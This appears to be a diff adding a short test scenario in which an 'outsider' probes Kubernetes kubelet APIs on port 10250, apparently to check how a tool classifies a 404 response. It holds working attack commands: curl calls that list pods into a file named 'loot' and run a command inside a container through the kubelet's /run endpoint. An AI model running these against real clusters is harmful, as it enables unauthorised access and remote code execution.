@@ -1,0 +1,5 @@
+# scene fails guard-noted (unknown-path): a 404 on an unknown path is taken for a guard
+#@ outsider
+curl -sk https://node01:10250/pods > loot
+curl -sk -X POST 'https://node01:10250/run/default/web-node01/web?cmd=id' >> loot
+curl -sk -w '\n%{http_code}\n' https://node02:10250/api/pods > guarded
